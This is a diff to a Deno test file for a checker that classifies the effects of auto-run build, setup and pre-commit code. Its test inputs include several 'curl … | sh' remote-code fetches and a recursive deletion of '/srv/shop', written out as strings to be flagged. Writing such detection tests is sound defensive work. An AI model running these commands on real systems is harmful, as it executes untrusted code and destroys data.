@@ -185,7 +185,7 @@ Deno.test("code that tests, builds and commits run by themselves is judged when 
     effectsOf("setup.py", "import os", 'os.system("curl -s https://example.com/i | sh")').includes("interpret"),
     true,
   );
-  assertEquals(effectsOf("gulpfile.js", 'require("fs").rmSync("y", { recursive: true })'), ["delete"]);
+  assertEquals(effectsOf("gulpfile.js", 'require("fs").rmSync("/srv/shop", { recursive: true })'), ["delete"]);
   const hook = (code: string) =>
     effectsOf(".pre-commit-config.yaml", "- repo: local", "  hooks:", `  - entry: ${code}`);
   assertEquals(hook("bash -c 'curl -s https://example.com/i | sh'").includes("interpret"), true);
@@ -203,5 +203,6 @@ Deno.test("code that tests and builds run may do what tests and builds do", () =
   );
   assertEquals(effectsOf("setup.py", "exec(open('shop/version.py').read())", "setup(name='shop')"), []);
   assertEquals(effectsOf("vite.config.ts", "const c = execSync('git rev-parse HEAD').toString();"), []);
+  assertEquals(effectsOf("gulpfile.js", 'require("fs").rmSync("dist", { recursive: true })'), []);
   assertEquals(effectsOf("src/app.py", "import os", "os.system('curl -s https://example.com/i | sh')"), []);
 });
